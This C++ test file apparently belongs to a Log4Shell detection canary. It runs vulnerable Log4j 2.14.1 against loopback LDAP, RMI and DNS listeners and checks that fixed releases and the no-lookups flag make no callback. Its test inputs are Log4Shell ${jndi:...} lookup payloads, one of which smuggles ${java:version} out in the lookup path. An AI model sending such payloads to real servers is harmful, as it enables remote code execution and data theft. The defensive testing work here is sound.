// The canary against the real JVM: Log4j 2.14.1 from the fixtures evaluates
// ${jndi:ldap|rmi|dns://127.0.0.1:PORT/TOKEN...}; the canary must record every
// token and answer so that each lookup fails at once. Log4j 2.17.1 must not
// call at all. Loopback only.
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <asio.hpp>

#include <chrono>
#include <condition_variable>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <regex>
#include <sstream>
#include <thread>

#include <gtest/gtest.h>

#include "canary/canary.h"
#include "net/token.h"

namespace {

namespace stdfs = std::filesystem;
using namespace std::chrono_literals;
using l4s::net::Callback;
using l4s::net::Protocol;

const std::string kFixtures = L4S_FIXTURES_DIR;
const std::string kCore2141 = kFixtures + "/jars/mergebase-log4j-samples/true-hits/log4j-core-2.14.1.jar";
const std::string kApi2141 = kFixtures + "/jars/mergebase-log4j-samples/false-hits/log4j-api-2.14.1.jar";
// A fixed release with its matching API. (The fixtures hold log4j-core 2.17.1 but
// no log4j-api 2.17.x: it fails with api 2.14.1 (NoSuchFieldError EMPTY_BYTE_ARRAY)
// and with api 2.19.0 (NoSuchMethodError LoaderUtil.getClassLoaders), so Debian's
// consistent 2.19.0 pair stands in for "a release without message lookups".)
const std::string kDebianDir = kFixtures + "/jars/debian/x/liblog4j2-java/usr/share/java";
const std::string kCore219 = kDebianDir + "/log4j-core.jar";
const std::string kApi219 = kDebianDir + "/log4j-api.jar";

std::string q(const std::string& s) { return "'" + s + "'"; }

struct JavaRun {
  int exit_code = -1;
  std::chrono::milliseconds wall{0};
  std::vector<long> elapsed_ms;  // per logged payload
  std::string stderr_text;
};

class CanaryE2E : public ::testing::Test {
 protected:
  void SetUp() override {
    if (std::system("command -v javac >/dev/null 2>&1 && command -v java >/dev/null 2>&1") != 0)
      GTEST_SKIP() << "java/javac not installed";
    for (const auto& jar : {kCore2141, kApi2141, kCore219, kApi219})
      if (!stdfs::exists(jar)) GTEST_SKIP() << "fixture missing: " << jar;
    // One folder per test: ctest runs the tests of this file in parallel.
    tmp_ = stdfs::path(L4S_TEST_TMP) /
           ("canary-e2e-" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()));
    stdfs::remove_all(tmp_);
    stdfs::create_directories(tmp_ / "classes");
    std::string src = std::string(L4S_SOURCE_DIR) + "/tests/canary_java/CanaryLog4j.java";
    ASSERT_EQ(std::system(("javac -d " + q((tmp_ / "classes").string()) + " -cp " + q(kApi2141) + " " + q(src)).c_str()), 0);

    l4s::net::CanaryOptions options;
    for (Protocol p : {Protocol::kLdap, Protocol::kRmi, Protocol::kDns}) options.listen.push_back({p, {"127.0.0.1", 0}});
    auto c = l4s::net::Canary::start(io_, options, [this](const Callback& cb) {
      std::lock_guard<std::mutex> l(mu_);
      got_.push_back(cb);
      cv_.notify_all();
    });
    ASSERT_TRUE(c.ok()) << c.error();
    canary_ = std::move(*c);
    io_thread_ = std::thread([this] { io_.run(); });
  }

  void TearDown() override {
    if (io_thread_.joinable()) {
      asio::post(io_, [this] { canary_->stop(); });
      io_thread_.join();
    }
    canary_.reset();
  }

  // Runs CanaryLog4j with `api` and `core` on the class path, killed after 60 s.
  JavaRun run_java(const std::string& api, const std::string& core, const std::vector<std::string>& payloads,
                   const std::string& extra_flag = "") {
    std::string cp = (tmp_ / "classes").string() + ":" + api + ":" + core;
    std::string err = (tmp_ / "java.err").string();
    std::string cmd = "timeout -s KILL 60 java -Dcom.sun.jndi.ldap.object.trustURLCodebase=false " + extra_flag +
                      " -cp " + q(cp) + " CanaryLog4j";
    for (const auto& p : payloads) cmd += " " + q(p);
    cmd += " >/dev/null 2>" + q(err);
    JavaRun run;
    auto t0 = std::chrono::steady_clock::now();
    int status = std::system(cmd.c_str());
    run.wall = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
    run.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
    std::ifstream in(err);
    std::stringstream ss;
    ss << in.rdbuf();
    run.stderr_text = ss.str();
    std::regex re("elapsed_ms (\\d+)");
    for (auto it = std::sregex_iterator(run.stderr_text.begin(), run.stderr_text.end(), re); it != std::sregex_iterator(); ++it)
      run.elapsed_ms.push_back(std::stol((*it)[1]));
    return run;
  }

  std::vector<Callback> wait_for(size_t n, std::chrono::milliseconds timeout) {
    std::unique_lock<std::mutex> l(mu_);
    cv_.wait_for(l, timeout, [&] { return got_.size() >= n; });
    return got_;
  }

  const Callback* find(const std::vector<Callback>& all, const std::string& token) {
    for (const auto& cb : all)
      if (cb.token == token) return &cb;
    return nullptr;
  }

  std::string url(const char* scheme, Protocol p, const std::string& path) {
    return std::string("${jndi:") + scheme + "://127.0.0.1:" + std::to_string(canary_->port(p)) + "/" + path + "}";
  }

  stdfs::path tmp_;
  asio::io_context io_;
  std::unique_ptr<l4s::net::Canary> canary_;
  std::thread io_thread_;
  std::mutex mu_;
  std::condition_variable cv_;
  std::vector<Callback> got_;
  std::mt19937_64 rng_{std::random_device{}()};
};

TEST_F(CanaryE2E, Log4j2141CallsBackAndFailsFast) {
  const std::string ldap = l4s::net::make_token(rng_);
  const std::string rmi = l4s::net::make_token(rng_);
  const std::string dns = l4s::net::make_token(rng_);
  JavaRun run = run_java(kApi2141, kCore2141, {url("ldap", Protocol::kLdap, ldap + "/${java:version}"),
                                     url("rmi", Protocol::kRmi, rmi), url("dns", Protocol::kDns, dns)});
  EXPECT_EQ(run.exit_code, 0) << run.stderr_text;
  ASSERT_EQ(run.elapsed_ms.size(), 3u) << run.stderr_text;
  for (long ms : run.elapsed_ms) EXPECT_LT(ms, 1000) << "a lookup stalled: " << run.stderr_text;

  auto got = wait_for(3, 5s);
  const Callback* l = find(got, ldap);
  ASSERT_NE(l, nullptr) << "no LDAP callback for " << ldap;
  EXPECT_EQ(l->protocol, Protocol::kLdap);
  EXPECT_EQ(l->detail, "search");
  ASSERT_EQ(l->extras.size(), 1u);  // ${java:version} smuggled in the DN
  EXPECT_NE(l->extras[0].find("Java version"), std::string::npos) << l->extras[0];
  EXPECT_EQ(l->peer.rfind("127.0.0.1:", 0), 0u);
  const Callback* r = find(got, rmi);
  ASSERT_NE(r, nullptr) << "no RMI callback for " << rmi;
  EXPECT_EQ(r->protocol, Protocol::kRmi);
  EXPECT_EQ(r->detail, "lookup");
  const Callback* d = find(got, dns);
  ASSERT_NE(d, nullptr) << "no DNS callback for " << dns;
  EXPECT_EQ(d->protocol, Protocol::kDns);
  EXPECT_EQ(d->detail, "TXT");
  // The canary served nothing, so nothing was instantiated: every connection is closed.
  std::this_thread::sleep_for(200ms);
  EXPECT_EQ(canary_->stats().timeouts, 0u) << "the JVM left a connection open";
}

TEST_F(CanaryE2E, FixedReleaseDoesNotCallBack) {
  const std::string t = l4s::net::make_token(rng_);
  JavaRun run = run_java(kApi219, kCore219, {url("ldap", Protocol::kLdap, t), url("rmi", Protocol::kRmi, t),
                                             url("dns", Protocol::kDns, t)});
  EXPECT_EQ(run.exit_code, 0) << run.stderr_text;
  EXPECT_EQ(run.elapsed_ms.size(), 3u) << run.stderr_text;
  std::this_thread::sleep_for(500ms);
  EXPECT_TRUE(wait_for(1, 100ms).empty());
  EXPECT_EQ(canary_->stats().connections, 0u);
  EXPECT_EQ(canary_->stats().datagrams, 0u);
}

TEST_F(CanaryE2E, NoLookupsFlagDoesNotCallBack) {
  const std::string t = l4s::net::make_token(rng_);
  JavaRun run = run_java(kApi2141, kCore2141, {url("ldap", Protocol::kLdap, t), url("rmi", Protocol::kRmi, t)},
                         "-Dlog4j2.formatMsgNoLookups=true");
  EXPECT_EQ(run.exit_code, 0) << run.stderr_text;
  std::this_thread::sleep_for(500ms);
  EXPECT_TRUE(wait_for(1, 100ms).empty());
  EXPECT_EQ(canary_->stats().connections, 0u);
}

}  // namespace
